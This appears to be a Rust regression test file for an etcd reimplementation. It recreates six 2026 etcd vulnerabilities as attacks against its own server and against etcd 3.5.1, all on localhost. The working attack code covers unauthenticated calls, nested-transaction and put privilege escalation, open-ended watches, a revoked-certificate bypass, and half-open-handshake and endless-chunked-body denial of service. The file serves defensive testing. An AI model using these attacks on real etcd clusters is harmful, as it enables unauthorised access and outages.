//! etcd's six published vulnerabilities of 2026, each as an attack: refused here, and successful against etcd 3.5.1 where
//! that has the hole. Source: `reference/users-wishes.md`, section 4.

use super::stage::{PATIENCE, Stage, always, nested, old_etcd, ours, permission, put, range};
use quorate_proto::authpb::permission::Type::{Read, Readwrite, Write};
use quorate_proto::etcdserverpb as pb;
use quorate_proto::etcdserverpb::request_op::Request as Op;
use quorate_proto::etcdserverpb::watch_request::RequestUnion;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::path::Path;
use std::process::Command;
use std::time::Duration;
use testbed::{Leaf, Pair, Pki, Process, Version, free_ports, reference};
use tokio_stream::StreamExt;

/// Which of these calls are answered to somebody who brings no token.
async fn answered_to_nobody(program: &Path) -> Vec<&'static str> {
    let stage = Stage::start(program, 1, &[]);
    stage.with_alice(&[]).await;
    let nobody = stage.nobody();
    let alarm = |action| pb::AlarmRequest { action, member_id: 1, alarm: 1 };
    let mut answered = Vec::new();
    let mut note = |name, is_answered| {
        if is_answered {
            answered.push(name);
        }
    };
    let list = pb::MemberListRequest { linearizable: true };
    note("MemberList", nobody.cluster().member_list(list).await.is_ok());
    let grant = pb::LeaseGrantRequest { ttl: 1000, id: 5 };
    note("LeaseGrant", nobody.lease().lease_grant(grant).await.is_ok());
    let time = pb::LeaseTimeToLiveRequest { id: 5, keys: false };
    note("LeaseTimeToLive", nobody.lease().lease_time_to_live(time).await.is_ok());
    note("LeaseLeases", nobody.lease().lease_leases(pb::LeaseLeasesRequest {}).await.is_ok());
    let revoke = pb::LeaseRevokeRequest { id: 5 };
    note("LeaseRevoke", nobody.lease().lease_revoke(revoke).await.is_ok());
    let compact = pb::CompactionRequest { revision: 1, physical: false };
    note("Compact", nobody.kv().compact(compact).await.is_ok());
    // Last: an alarm that is on stops others.
    note("Alarm get", nobody.maintenance().alarm(alarm(0)).await.is_ok());
    note("Alarm off", nobody.maintenance().alarm(alarm(2)).await.is_ok());
    note("Alarm on", nobody.maintenance().alarm(alarm(1)).await.is_ok());
    answered
}

/// GHSA-q8m4-xhhv-38mg, CVE-2026-33413: calls that ask nobody who calls.
#[tokio::test]
async fn ghsa_q8m4_xhhv_38mg_calls_without_authorisation() {
    assert_eq!(answered_to_nobody(&ours()).await, Vec::<&str>::new());
    let old = answered_to_nobody(&old_etcd()).await;
    for name in ["MemberList", "Alarm on", "LeaseGrant", "Compact"] {
        assert!(old.contains(&name), "the attack does not work: {old:?}");
    }
}

/// What alice, who may do all with `a` and nothing else, reaches by transactions inside transactions.
async fn reached_by_nesting(program: &Path) -> Vec<String> {
    let stage = Stage::start(program, 1, &[]);
    let (root, alice) = stage.with_alice(&[permission(Readwrite, "a", "")]).await;
    let mut reached = Vec::new();
    for levels in [1, 2, 5] {
        let read = nested(always(vec![Op::RequestRange(range("secret", ""))]), levels);
        let answer = alice.txn(read).await.map(|answer| format!("{answer:?}")).unwrap_or_default();
        if answer.contains("treasure") {
            reached.push(format!("read at {levels}"));
        }
        let write = nested(always(vec![Op::RequestPut(put("stolen", "x"))]), levels);
        alice.txn(write).await.ok();
        let delete = pb::DeleteRangeRequest { key: "stolen".into(), ..Default::default() };
        let deleted = root.kv().delete_range(root.request(delete)).await.unwrap();
        if deleted.into_inner().deleted == 1 {
            reached.push(format!("write at {levels}"));
        }
    }
    reached
}

/// GHSA-rfx7-8w68-q57q, CVE-2026-33343: transactions inside transactions are not judged.
#[tokio::test]
async fn ghsa_rfx7_8w68_q57q_nested_transactions() {
    assert_eq!(reached_by_nesting(&ours()).await, Vec::<String>::new());
    assert_eq!(reached_by_nesting(&old_etcd()).await.len(), 6);
}

/// What alice, who may write `w` and not read it, gets out of a put in a transaction: the value before, and a key of her
/// own on root's lease, with which root's key would go.
async fn gained_by_put(program: &Path) -> Vec<&'static str> {
    let stage = Stage::start(program, 1, &[]);
    let (root, alice) = stage.with_alice(&[permission(Write, "w", "")]).await;
    root.put("w", "treasure").await.unwrap();
    let grant = pb::LeaseGrantRequest { ttl: 1000, id: 77 };
    root.lease().lease_grant(root.request(grant)).await.unwrap();
    let kept = pb::PutRequest { lease: 77, ..put("secret", "treasure") };
    root.kv().put(root.request(kept)).await.unwrap();
    let mut gained = Vec::new();
    let before = pb::PutRequest { prev_kv: true, ..put("w", "x") };
    let answer = alice.txn(always(vec![Op::RequestPut(before)])).await;
    if answer.is_ok_and(|answer| format!("{answer:?}").contains("treasure")) {
        gained.push("previous value");
    }
    let attach = pb::PutRequest { lease: 77, ..put("w", "x") };
    alice.txn(always(vec![Op::RequestPut(attach)])).await.ok();
    if root.get("w").await.unwrap().kvs[0].lease == 77 {
        gained.push("lease");
    }
    gained
}

/// CVE-2026-44283: a put inside a transaction is judged by less than a put alone.
#[tokio::test]
async fn cve_2026_44283_put_inside_a_transaction() {
    assert_eq!(gained_by_put(&ours()).await, Vec::<&str>::new());
    assert_eq!(gained_by_put(&old_etcd()).await, ["previous value", "lease"]);
}

/// Whether alice, who may read `b` and nothing else, is shown what happens behind it.
async fn sees_behind_her_key(program: &Path, range_end: &'static [u8]) -> bool {
    let stage = Stage::start(program, 1, &[]);
    let (root, alice) = stage.with_alice(&[permission(Read, "b", "")]).await;
    let create = pb::WatchCreateRequest {
        key: "b".into(),
        range_end: range_end.into(),
        ..Default::default()
    };
    let request = pb::WatchRequest { request_union: Some(RequestUnion::CreateRequest(create)) };
    let requests = tokio_stream::iter([request]).chain(tokio_stream::pending());
    let mut answers = alice.watch().watch(alice.request(requests)).await.unwrap().into_inner();
    let first = tokio::time::timeout(PATIENCE, answers.message()).await.unwrap().unwrap().unwrap();
    if first.canceled {
        return false;
    }
    root.put("secret", "new treasure").await.unwrap();
    root.put("b", "x").await.unwrap();
    loop {
        let answer = tokio::time::timeout(PATIENCE, answers.message()).await.unwrap();
        let events = answer.unwrap().unwrap().events;
        let keys: Vec<_> = events.into_iter().map(|event| event.kv.unwrap().key).collect();
        if keys.iter().any(|key| key == "secret") {
            return true;
        }
        if keys.iter().any(|key| key == "b") {
            return false;
        }
    }
}

/// GHSA-xg4h-6gfc-h4m8: the right to one key is taken for the right to everything behind it, when a watch asks for an
/// open end.
#[tokio::test]
async fn ghsa_xg4h_6gfc_h4m8_watch_without_end() {
    assert!(!sees_behind_her_key(&ours(), b"\0").await);
    assert!(!sees_behind_her_key(&ours(), b"t").await);
    assert!(sees_behind_her_key(&old_etcd(), b"\0").await, "the attack does not work");
}

/// A single member with these flags, `{}` in them its client port and `{2}` another one.
fn lone(program: &Path, folder: &Path, name: &str, flags: &[String]) -> (Process, u16, u16) {
    let ports = free_ports(3).unwrap();
    let fill = |flag: &String| {
        let flag = flag.replace("{}", &ports[0].to_string());
        flag.replace("{2}", &ports[1].to_string())
    };
    let peer = format!("http://127.0.0.1:{}", ports[2]);
    let mut arguments = vec![
        format!("--name={name}"),
        format!("--data-dir={}", folder.join(name).display()),
        format!("--listen-peer-urls={peer}"),
        format!("--initial-advertise-peer-urls={peer}"),
        format!("--initial-cluster={name}={peer}"),
        format!("--advertise-client-urls=https://127.0.0.1:{}", ports[0]),
    ];
    arguments.extend(flags.iter().map(fill));
    let mut process = Process::new(name, folder, program, &arguments);
    process.start().unwrap();
    process.wait_ready(PATIENCE).unwrap();
    (process, ports[0], ports[1])
}

/// Whether a certificate gets an answer over gRPC, and over HTTP.
fn is_served(pki: &Pki, pair: &Pair, grpc: u16, http: u16) -> (bool, bool) {
    let etcdctl = Command::new(reference(Version::V3_7_1, "etcdctl"))
        .arg(format!("--endpoints=https://127.0.0.1:{grpc}"))
        .args(["--dial-timeout=3s", "--command-timeout=3s"])
        .args(pair.client_flags(pki))
        .args(["put", "a", "b"])
        .output()
        .unwrap();
    let curl = Command::new("curl")
        .args(["-sS", "--max-time", "20", "--cacert"])
        .arg(pki.ca())
        .arg("--cert")
        .arg(&pair.cert)
        .arg("--key")
        .arg(&pair.key)
        .arg(format!("https://127.0.0.1:{http}/health"))
        .output()
        .unwrap();
    (etcdctl.status.success(), curl.status.success())
}

/// GHSA-3wh4-j44w-pg92: with an address of its own for HTTP, the one for gRPC forgets the revocation list. No etcd at
/// hand has that flag and the hole; without the list the very same certificate is let in.
#[test]
fn ghsa_3wh4_j44w_pg92_revoked_certificate_on_the_grpc_listener() {
    let folder = tempfile::tempdir().unwrap();
    let pki = Pki::new(&folder.path().join("pki")).unwrap();
    let server = pki.issue(&Leaf { file: "server", ..Leaf::default() }).unwrap();
    let (good, revoked) = (pki.client("good").unwrap(), pki.client("revoked").unwrap());
    let list = pki.revoke("list.pem", &[&revoked]).unwrap();
    let mut flags = vec![
        "--listen-client-urls=https://127.0.0.1:{}".to_owned(),
        "--listen-client-http-urls=https://127.0.0.1:{2}".to_owned(),
        format!("--cert-file={}", server.cert.display()),
        format!("--key-file={}", server.key.display()),
        format!("--trusted-ca-file={}", pki.ca().display()),
        "--client-cert-auth".to_owned(),
    ];
    let (_unlisted, grpc, http) = lone(&ours(), folder.path(), "unlisted", &flags);
    assert_eq!(is_served(&pki, &revoked, grpc, http), (true, true), "the attack does not work");
    flags.push(format!("--client-crl-file={}", list.display()));
    let (_listed, grpc, http) = lone(&ours(), folder.path(), "listed", &flags);
    assert_eq!(is_served(&pki, &good, grpc, http), (true, true));
    assert_eq!(is_served(&pki, &revoked, grpc, http), (false, false));
}

/// GHSA-6vch-q96h-7gc3: handshakes that are begun and never ended are kept for ever. Here they are ended, and by then the
/// old etcd still holds its own.
#[test]
fn ghsa_6vch_q96h_7gc3_half_open_handshakes() {
    let folder = tempfile::tempdir().unwrap();
    let pki = Pki::new(&folder.path().join("pki")).unwrap();
    let server = pki.issue(&Leaf { file: "server", ..Leaf::default() }).unwrap();
    let flags = [
        "--listen-client-urls=https://127.0.0.1:{}".to_owned(),
        format!("--cert-file={}", server.cert.display()),
        format!("--key-file={}", server.key.display()),
    ];
    let begun = |port: u16| {
        let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
        stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).unwrap();
        stream
    };
    let (_old, port, _) = lone(&old_etcd(), folder.path(), "old", &flags);
    let mut held = begun(port);
    let (_ours, port, _) = lone(&ours(), folder.path(), "ours", &flags);
    let mut ended = begun(port);
    ended.set_read_timeout(Some(PATIENCE)).unwrap();
    // An alert may come before the end.
    ended.read_to_end(&mut Vec::new()).expect("the handshake is held for ever");
    held.set_read_timeout(Some(Duration::from_millis(1))).unwrap();
    let still = held.read(&mut [0]).unwrap_err();
    assert_eq!(still.kind(), std::io::ErrorKind::WouldBlock, "the attack does not work");
}

/// PR #22147: a body without end for the handlers of the peer port that etcd reads whole.
#[test]
fn pr_22147_endless_body_on_the_peer_port() {
    let stage = Stage::start(&ours(), 1, &[]);
    let log = stage.cluster.members[0].process.log_text();
    let at = log.find("m1=http://127.0.0.1:").unwrap() + "m1=http://127.0.0.1:".len();
    let peer: String = log[at..].chars().take_while(char::is_ascii_digit).collect();
    for path in ["/leases", "/leases/internal", "/raft/snapshot", "/members/promote/1"] {
        let mut stream = TcpStream::connect(("127.0.0.1", peer.parse().unwrap())).unwrap();
        stream.set_write_timeout(Some(PATIENCE)).unwrap();
        let head = format!("POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n");
        stream.write_all(head.as_bytes()).unwrap();
        let chunk = [b"100000\r\n".as_slice(), &vec![b'x'; 1 << 20], b"\r\n"].concat();
        // 256 MiB, unless the server has heard enough before.
        let _ = (0..256).try_for_each(|_| stream.write_all(&chunk));
    }
    let peak = stage.cluster.usage().unwrap().peak_rss_bytes;
    assert!(peak < 200 << 20, "{} MiB", peak >> 20);
}
